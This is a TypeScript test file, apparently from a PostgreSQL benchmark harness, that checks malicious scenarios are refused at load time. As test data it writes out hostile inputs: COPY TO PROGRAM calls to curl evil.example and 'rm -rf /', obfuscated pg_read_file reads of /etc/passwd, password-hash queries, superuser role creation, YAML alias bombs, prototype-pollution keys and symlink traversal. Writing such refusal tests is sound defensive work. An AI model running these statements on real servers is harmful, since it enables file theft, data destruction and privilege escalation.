// Scenarios that want more than to be measured: each is turned away when it is loaded, before there is a server.
import { mkdir, rm, symlink, truncate, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { findScenario } from '../../../src/scenario/find-scenario.js'
import { HarnessError } from '../../../src/model/errors.js'
import { loadScenario } from '../../../src/scenario/load-scenario.js'
import { temporaryFolder } from '../../support/temporary-folder.js'
import { tinyScenario, tinyScenarioFile } from '../../support/tiny-scenario.js'

const YAML = tinyScenarioFile('scenario.yaml')
const INDEX = tinyScenarioFile('migrations/001_timeline.sql')

async function problemIn(folder: string): Promise<HarnessError> {
  const outcome = await loadScenario(folder).catch((error: unknown) => error)
  if (outcome instanceof HarnessError) return outcome
  throw new Error('expected a HarnessError', { cause: outcome })
}

const problemOf = async (changes: Parameters<typeof tinyScenario>[0]): Promise<HarnessError> =>
  problemIn(await tinyScenario(changes))

const REFUSED = 5
const USAGE = 2

describe('a migration', () => {
  it.each([
    ["COPY messages TO PROGRAM 'curl evil.example'", 'COPY', 'runs a program'],
    ["COPY messages FROM PROGRAM 'curl evil.example'", 'COPY', 'runs a program'],
    ["COPY (SELECT 1) TO '/tmp/out'", 'COPY', 'reads or writes a file'],
    ["COPY messages FROM '/etc/passwd'", 'COPY', 'reads or writes a file'],
    ["ALTER SYSTEM SET shared_preload_libraries = 'evil'", 'ALTER SYSTEM', 'more of the server'],
    ['CREATE DATABASE other', 'CREATE DATABASE', 'more of the server'],
    ['DROP DATABASE IF EXISTS postgres', 'DROP DATABASE', 'more of the server'],
    ["ALTER DATABASE postgres SET work_mem = '1GB'", 'ALTER DATABASE', 'more of the server'],
    ['ALTER DATABASE postgres RENAME TO other', 'ALTER DATABASE', 'more of the server'],
    ['ALTER DATABASE postgres OWNER TO other', 'ALTER DATABASE', 'more of the server'],
    ["COMMENT ON DATABASE postgres IS 'not yours'", 'COMMENT ON', 'more of the server'],
    ['GRANT ALL ON DATABASE postgres TO PUBLIC', 'GRANT', 'more of the server'],
    ["CREATE TABLESPACE t LOCATION '/tmp'", 'CREATE TABLESPACE', 'more of the server'],
    ['CHECKPOINT', 'CHECKPOINT', 'more of the server'],
    ["SECURITY LABEL ON TABLE messages IS 'x'", 'SECURITY LABEL', 'more of the server'],
    ["CREATE ROLE r SUPERUSER PASSWORD 'x'", 'CREATE ROLE', 'who may do what'],
    ['CREATE USER r', 'CREATE USER', 'who may do what'],
    ['ALTER ROLE postgres NOLOGIN', 'ALTER ROLE', 'who may do what'],
    ['ALTER ROLE ALL SET jit = off', 'ALTER ROLE', 'who may do what'],
    ['ALTER ROLE postgres RENAME TO other', 'ALTER ROLE', 'who may do what'],
    ['DROP ROLE postgres', 'DROP ROLE', 'who may do what'],
    ['DROP OWNED BY postgres', 'DROP OWNED', 'who may do what'],
    ['GRANT pg_execute_server_program TO PUBLIC', 'GRANT', 'who may do what'],
    ['REVOKE pg_monitor FROM postgres', 'REVOKE', 'who may do what'],
    ["LOAD '/tmp/evil.so'", 'LOAD', 'loads code'],
    ['CREATE EXTENSION plpython3u', 'CREATE EXTENSION', 'loads code'],
    ['ALTER EXTENSION vector UPDATE', 'ALTER EXTENSION', 'loads code'],
    ['DROP EXTENSION vector', 'DROP EXTENSION', 'loads code'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", 'CREATE FUNCTION', 'runs code'],
    ["CREATE OR REPLACE PROCEDURE f() LANGUAGE sql AS 'SELECT 1'", 'CREATE PROCEDURE', 'runs code'],
    ['ALTER FUNCTION f() SECURITY DEFINER', 'ALTER FUNCTION', 'runs code'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'DO', 'runs code'],
    ['CREATE LANGUAGE l HANDLER h', 'CREATE LANGUAGE', 'runs code'],
    ['CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f()', 'CREATE EVENT TRIGGER', 'runs code'],
    ['CREATE SERVER s FOREIGN DATA WRAPPER w', 'CREATE SERVER', 'other servers'],
    ['CREATE FOREIGN DATA WRAPPER w', 'CREATE FOREIGN DATA WRAPPER', 'other servers'],
    ['CREATE USER MAPPING FOR PUBLIC SERVER s', 'CREATE USER MAPPING', 'other servers'],
    ["CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", 'CREATE SUBSCRIPTION', 'other servers'],
    ['CREATE PUBLICATION p FOR ALL TABLES', 'CREATE PUBLICATION', 'other servers'],
    ['SET ROLE postgres', 'SET role', 'another role'],
    ['SET "ROLE" = postgres', 'SET ROLE', 'another role'],
    ['RESET ROLE', 'RESET role', 'another role'],
    ['SET SESSION AUTHORIZATION DEFAULT', 'SET session_authorization', 'another role'],
    ["SET LOCAL session_preload_libraries = 'evil'", 'SET session_preload_libraries', 'loads code'],
    ["SET Dynamic_Library_Path = '/tmp'", 'SET dynamic_library_path', 'loads code'],
    ['SET session_replication_role = replica', 'SET session_replication_role', 'switches off'],
    ["SET log_statement = 'all'", 'SET log_statement', 'the log'],
    ['SET client_connection_check_interval = 0', 'SET client_connection_check_interval', 'run on'],
    ['SELECT pg_reload_conf()', 'pg_reload_conf()', 'the whole server'],
    ['CREATE INDEX i ON messages ((pg_sleep(1)::text))', 'pg_sleep()', 'waits'],
    ['CREATE INDEX i ON messages (id) WHERE pg_try_advisory_lock(id)', 'pg_try_advisory_lock()', 'locks'],
    ["CALL set_config('role', 'postgres', false)", 'set_config()', 'another role'],
  ])('%j is refused', async (sql, what, why) => {
    const problem = await problemOf({ 'migrations/001_timeline.sql': `${INDEX}${sql};\n` })
    expect(problem.message).toMatch(/migrations\/001_timeline\.sql:2:\d+: /)
    expect(problem.message).toContain(`: ${what} is not allowed in a scenario: it `)
    expect(problem.message).toContain(why)
    expect(problem.frame).toContain('> 2 | ')
    expect(problem.hint).toBeDefined()
    expect(problem.exitCode).toBe(REFUSED)
  })

  it.each([
    "SET lock_timeout = '2s'",
    'SET statement_timeout = 0',
    "SET search_path = public; SET maintenance_work_mem = '1GB'",
    "COMMENT ON TABLE messages IS 'ours'",
  ])('%j is an honest one', async (sql) => {
    const folder = await tinyScenario({ 'migrations/001_timeline.sql': `${INDEX}${sql};\n` })
    await expect(loadScenario(folder)).resolves.toMatchObject({ dataset: 'chat' })
  })

  it.each([
    'CREATE TABLE t (a int)',
    'SELECT 1',
    'GRANT SELECT ON messages TO PUBLIC',
    'COPY messages TO stdout',
  ])('%j is merely not supported', async (sql) => {
    const problem = await problemOf({ 'migrations/001_timeline.sql': `${INDEX}${sql};\n` })
    expect(problem.message).toContain('is not supported yet')
    expect(problem.exitCode).toBe(USAGE)
  })
})

describe('a call in a query', () => {
  const CALLS: [sql: string, what: string][] = [
    ["SELECT set_config('role', 'postgres', true)", 'set_config()'],
    ["SELECT 1 FROM (SELECT pg_catalog.set_config('role', $1, true)) x", 'set_config()'],
    ["SELECT pg_read_file('/etc/passwd')", 'pg_read_file()'],
    ["SELECT PG_Read_File('/etc/passwd')", 'pg_read_file()'],
    [`SELECT "pg_catalog"."pg_read_file"('/etc/passwd')`, 'pg_read_file()'],
    [`SELECT U&"pg\\005fread_file"('/etc/passwd')`, 'pg_read_file()'],
    ["SELECT pg_read_file/* */\n('/etc/passwd')", 'pg_read_file()'],
    ["SELECT ('/etc/passwd'::text).pg_read_file", 'pg_read_file()'],
    ["SELECT f.pg_read_file FROM unnest(array['/etc/passwd']) f", 'pg_read_file()'],
    ["SELECT pg_read_binary_file('/etc/passwd')", 'pg_read_binary_file()'],
    ["SELECT * FROM pg_ls_dir('/')", 'pg_ls_dir()'],
    ["SELECT * FROM ROWS FROM (pg_ls_dir('/'), generate_series(1, 2))", 'pg_ls_dir()'],
    ["SELECT lo_import('/etc/passwd')", 'lo_import()'],
    ["SELECT lo_export(1, '/tmp/x')", 'lo_export()'],
    ["SELECT * FROM dblink('host=evil', 'SELECT 1') AS t (a int)", 'dblink()'],
    ["SELECT dblink_exec('host=evil', 'DROP TABLE t')", 'dblink_exec()'],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'pg_terminate_backend()'],
    ['SELECT id FROM messages ORDER BY pg_sleep(1)', 'pg_sleep()'],
    ["WITH w AS MATERIALIZED (SELECT pg_sleep_for('1s')) SELECT 1 FROM w", 'pg_sleep_for()'],
    ['UPDATE messages SET id = id WHERE pg_advisory_lock(id) IS NULL RETURNING id', 'pg_advisory_lock()'],
    ["SELECT query_to_xml('DROP TABLE t', true, true, '')", 'query_to_xml()'],
    ["SELECT ts_stat('SELECT 1')", 'ts_stat()'],
    ['SELECT pg_switch_wal()', 'pg_switch_wal()'],
    [
      "SELECT pg_create_logical_replication_slot('s', 'test_decoding')",
      'pg_create_logical_replication_slot()',
    ],
    ["SELECT pg_logical_emit_message(false, 'a', 'b')", 'pg_logical_emit_message()'],
    ["SELECT pg_prewarm('messages')", 'pg_prewarm()'],
    ['SELECT rolpassword FROM pg_authid', 'pg_authid'],
    ['TABLE pg_catalog.pg_shadow', 'pg_shadow'],
  ]

  it.each([
    ...CALLS,
    ["UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role' RETURNING 1", 'pg_settings'],
    ['DELETE FROM pg_catalog.pg_class RETURNING 1', 'pg_class'],
    ['WITH w AS (INSERT INTO pg_proc VALUES (1) RETURNING 1) SELECT * FROM w', 'pg_proc'],
    ["SELECT 1; COPY messages TO PROGRAM 'rm -rf /'", 'COPY'],
    ["COPY (SELECT pg_read_file('x')) TO stdout", 'pg_read_file()'],
    ["PREPARE p AS SELECT pg_read_file('x')", 'pg_read_file()'],
  ])('%j is refused', async (sql, what) => {
    const problem = await problemOf({ 'queries/timeline.sql': sql })
    expect(problem.message).toMatch(/queries\/timeline\.sql:1:\d+: /)
    expect(problem.message).toContain(`: ${what} is not allowed in a scenario: it `)
    expect(problem.exitCode).toBe(REFUSED)
  })

  it.each(CALLS)('as a parameters query %j is refused', async (sql, what) => {
    const problem = await problemOf({ 'queries/timeline.parameters.sql': sql })
    expect(problem.message).toMatch(/queries\/timeline\.parameters\.sql:1:\d+: /)
    expect(problem.message).toContain(`: ${what} is not allowed in a scenario: it `)
    expect(problem.exitCode).toBe(REFUSED)
  })

  it('is pointed at, not the statement around it', async () => {
    const sql = 'SELECT id\nFROM messages\nWHERE é IS NULL AND pg_sleep(1) IS NULL'
    const problem = await problemOf({ 'queries/timeline.sql': sql })
    expect(problem.message).toContain('timeline.sql:3:21: pg_sleep()')
    expect(problem.frame).toMatch(/\n {4}\| {21}\^$/)
  })

  it.each([
    "SELECT setval('s', nextval('s'))",
    'SELECT lo_revenue, line.lo_orderdate FROM line',
    'SELECT relname FROM pg_class',
    "SELECT 'pg_read_file(1)' AS pg_sleep -- pg_sleep(1)",
    "INSERT INTO app.pg_log (a) VALUES (current_setting('x')) RETURNING a",
  ])('%j is an honest one', async (sql) => {
    await expect(loadScenario(await tinyScenario({ 'queries/timeline.sql': sql }))).resolves.toBeDefined()
  })
})

describe('a setting of a query', () => {
  const withSettings = (settings: string): Promise<HarnessError> =>
    problemOf({ 'scenario.yaml': `${YAML}    settings: { ${settings} }\n` })

  it.each([
    'role',
    'ROLE',
    'session_authorization',
    'local_preload_libraries',
    'dynamic_library_path',
    'allow_system_table_mods',
    'log_min_duration_statement',
    'auto_explain.log_analyze',
    'archive_command',
    'client_connection_check_interval',
    'statement_timeout',
    'lock_timeout',
    'idle_in_transaction_session_timeout',
    'transaction_timeout',
    'default_transaction_read_only',
  ])('named %s is refused', async (name) => {
    const problem = await withSettings(`work_mem: 4MB, ${name}: '1'`)
    expect(problem.message).toMatch(new RegExp(`^"${name}" is not allowed as a setting: it .*, at .*:10:32$`))
    expect(problem.exitCode).toBe(REFUSED)
  })

  it('holds no NUL', async () => {
    const problem = await withSettings(String.raw`work_mem: "\0"`)
    expect(problem.message).toContain('"work_mem": a NUL character is not text')
    expect(problem.exitCode).toBe(USAGE)
  })
})

describe('a scenario.yaml', () => {
  const bomb = Array.from({ length: 9 }, (_, i) => `a${i + 1}: &a${i + 1} [${`*a${i},`.repeat(9)}]`).join(
    '\n',
  )
  it.each([
    ['that is an alias bomb', `a0: &a0 [lol]\n${bomb}`, 'Excessive alias count'],
    ['that is an alias of itself', `${YAML}a: &a [*a]\n`, 'Unknown key "a"'],
    ['nested in 20,000 brackets', `title: ${'['.repeat(20_000)}${']'.repeat(20_000)}`, 'nested too deeply'],
    ['with brackets that never close', '['.repeat(60_000), 'nested too deeply'],
    ['nested in 20,000 dashes', `${'- '.repeat(20_000)}x`, 'nested too deeply'],
    ['with a key of a prototype', `${YAML}__proto__: { polluted: true }\n`, 'Unknown key "__proto__"'],
    ['with a constructor', `${YAML}constructor: { prototype: {} }\n`, 'Unknown key "constructor"'],
    [
      'with a query like a prototype',
      `${YAML}    __proto__: { role: postgres }\n`,
      'Unknown key "__proto__"',
    ],
    ['that makes code', `title: !!js/function "() => 1"`, 'Unresolved tag'],
    ['with a query outside of its folder', YAML.replace('name: by-id', 'name: ../../by-id'), 'kebab-case'],
    ['with a query of an absolute path', YAML.replace('name: by-id', 'name: /etc/passwd'), 'kebab-case'],
    ['with a dataset outside of its folder', YAML.replace('dataset: chat', 'dataset: ../chat'), 'kebab-case'],
    ['with a name of 10,000 letters', YAML.replace('by-id', 'a'.repeat(10_000)), 'at most 63 characters'],
    [
      'with a title of 10,000 letters',
      YAML.replace('Timeline', 'a'.repeat(10_000)),
      'at most 300 characters',
    ],
    ['with a NUL in a title', YAML.replace('Timeline and', String.raw`"\0`).replace('lookup', '"'), 'NUL'],
    ['with a key of 60,000 letters', `? ${'a'.repeat(60_000)}\n: 1\n`, 'Unknown key "aaa'],
  ])('%s is told so', async (_, yaml, message) => {
    const problem = await problemOf({ 'scenario.yaml': yaml })
    expect(problem.message).toContain(message)
    expect(problem.message.length).toBeLessThan(1000)
    expect(problem.exitCode).toBe(USAGE)
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
  })
})

describe('a file', () => {
  it.each([
    'scenario.yaml',
    'migrations/001_timeline.sql',
    'queries/by-id.sql',
    'queries/by-id.parameters.sql',
  ])('of 100 MB is not read: %s', async (file) => {
    const folder = await tinyScenario()
    await truncate(join(folder, file), 100_000_000)
    const problem = await problemIn(folder)
    expect(problem.message).toContain(`${file} has 100000000 bytes`)
    expect(problem.exitCode).toBe(USAGE)
  })

  it.each([
    ['a NUL', Buffer.from('SELECT 1\0; DROP TABLE t'), /by-id\.sql:1:9: a NUL character is not SQL text/],
    ['UTF-16', Buffer.from('\uFEFFSELECT 1', 'utf16le'), /by-id\.sql is UTF-16/],
    ['UTF-16 without a mark', Buffer.from('SELECT 1', 'utf16le'), /by-id\.sql is UTF-16/],
    ['bytes of no text', Buffer.from([0xff, 0x00, 0xc3, 0x28]), /by-id\.sql is not UTF-8/],
  ])('with %s is told so', async (_, bytes, message) => {
    const folder = await tinyScenario()
    await writeFile(join(folder, 'queries/by-id.sql'), bytes)
    const problem = await problemIn(folder)
    expect(problem.message).toMatch(message)
    expect(problem.exitCode).toBe(USAGE)
  })

  it.each([
    ['scenario.yaml', '/etc/passwd'],
    ['queries/by-id.sql', '/etc/passwd'],
    ['queries/by-id.parameters.sql', '../../../../../../etc/passwd'],
    ['migrations/002_more.sql', '/etc/passwd'],
  ])('%s that is a link to %s is not read', async (file, target) => {
    const folder = await tinyScenario()
    await rm(join(folder, file), { force: true })
    await symlink(target, join(folder, file))
    const problem = await problemIn(folder)
    expect(problem.message).toContain(`${file} is a link to a file outside of the scenario`)
    expect(`${problem.message} ${problem.frame} ${problem.hint}`).not.toContain('root:')
    expect(problem.exitCode).toBe(USAGE)
  })

  it('in a folder that is a link to another is not read', async () => {
    const [folder, elsewhere] = [await tinyScenario(), await temporaryFolder()]
    await writeFile(join(elsewhere, '001_timeline.sql'), INDEX)
    await rm(join(folder, 'migrations'), { recursive: true })
    await symlink(elsewhere, join(folder, 'migrations'))
    const problem = await problemIn(folder)
    expect(problem.message).toContain('001_timeline.sql is a link to a file outside of the scenario')
    expect(problem.exitCode).toBe(USAGE)
  })

  it('may be a link to another of the scenario, and the scenario itself a link', async () => {
    const [folder, elsewhere] = [await tinyScenario(), await temporaryFolder()]
    await rm(join(folder, 'queries/timeline.sql'))
    await symlink('by-id.sql', join(folder, 'queries/timeline.sql'))
    await rm(join(folder, 'queries/timeline.parameters.sql'))
    await symlink('by-id.parameters.sql', join(folder, 'queries/timeline.parameters.sql'))
    await symlink(folder, join(elsewhere, 'linked'))
    await expect(loadScenario(join(elsewhere, 'linked'))).resolves.toMatchObject({ name: 'linked' })
  })

  it('that is a device or a folder is none', async () => {
    const folder = await tinyScenario({ 'queries/by-id.sql': null })
    await symlink('/dev/zero', join(folder, 'queries/by-id.sql'))
    expect((await problemIn(folder)).message).toContain('Query "by-id" has no file')
    await rm(join(folder, 'queries/by-id.sql'))
    await mkdir(join(folder, 'queries/by-id.sql'))
    expect(await problemIn(folder)).toMatchObject({ exitCode: USAGE })
  })
})

describe('a query without end', () => {
  it.each([
    ['a parameter of a huge number', 'SELECT $2147483647', 'PostgreSQL takes 65535'],
    ['a comment in a comment in …', '/*'.repeat(100_000), 'over 500 operator characters in a row'],
    ['a placeholder that never ends', `SELECT ${'${'.repeat(100_000)}`, 'unknown placeholder "${${${'],
    ['a meta-command that never ends', '\\'.repeat(100_000), `"${'\\'.repeat(300)}`],
    ['25,000 statements', 'SELECT 1;'.repeat(25_000), 'a second statement'],
    ['30,000 columns into a table', `SELECT ${'a,'.repeat(30_000)}b INTO t`, 'INTO creates a table'],
    ['a megabyte', `SELECT ${'a,'.repeat(500_000)}b`, 'at most 262144'],
  ])('with %s is told so', async (_, sql, message) => {
    const problem = await problemOf({ 'queries/timeline.sql': sql })
    expect(problem.message).toContain(message)
    expect(problem.message.length).toBeLessThan(1000)
    expect(problem.exitCode).toBe(USAGE)
  })
})

describe('an expression', () => {
  it.each([
    ['20,000 parentheses', `SELECT ${'('.repeat(20_000)}1${')'.repeat(20_000)}`],
    ['20,000 calls', `SELECT ${'f('.repeat(20_000)}1${')'.repeat(20_000)}`],
    ['20,000 subqueries', `SELECT ${'(SELECT '.repeat(20_000)}1${')'.repeat(20_000)}`],
    ['100,000 operators', `SELECT ${'1+'.repeat(100_000)}1`],
    ['50,000 casts', `SELECT 1${'::int'.repeat(50_000)}`],
    ['13,000 UNIONs', `SELECT 1${' UNION ALL SELECT 1'.repeat(13_000)}`],
    ['20,000 joins', `SELECT * FROM a ${'CROSS JOIN b '.repeat(20_000)}`],
  ])('of %s is told so, and the next one is read', async (_, sql) => {
    const problem = await problemOf({ 'queries/timeline.sql': sql })
    expect(`${problem.message} ${problem.hint}`).toMatch(/nested too deeply/)
    expect(problem.message.length).toBeLessThan(1000)
    expect(problem.exitCode).toBe(USAGE)
    await expect(loadScenario(await tinyScenario())).resolves.toBeDefined()
  })
})

describe('a name on the command line', () => {
  it('that is very long is no scenario', async () => {
    const outcome = await findScenario('a'.repeat(100_000), import.meta.dirname).catch(
      (error: unknown) => error,
    )
    expect(outcome).toMatchObject({ exitCode: USAGE })
  })

  it.each([
    '../../etc',
    '/etc/passwd',
    '__proto__',
    'constructor',
    'a'.repeat(100_000),
    '\u001B[2J',
    'chat\0',
  ])('%j is no scenario', async (name) => {
    const outcome = await findScenario(name, import.meta.dirname).catch((error: unknown) => error)
    expect(outcome).toMatchObject({ exitCode: USAGE })
  })
})
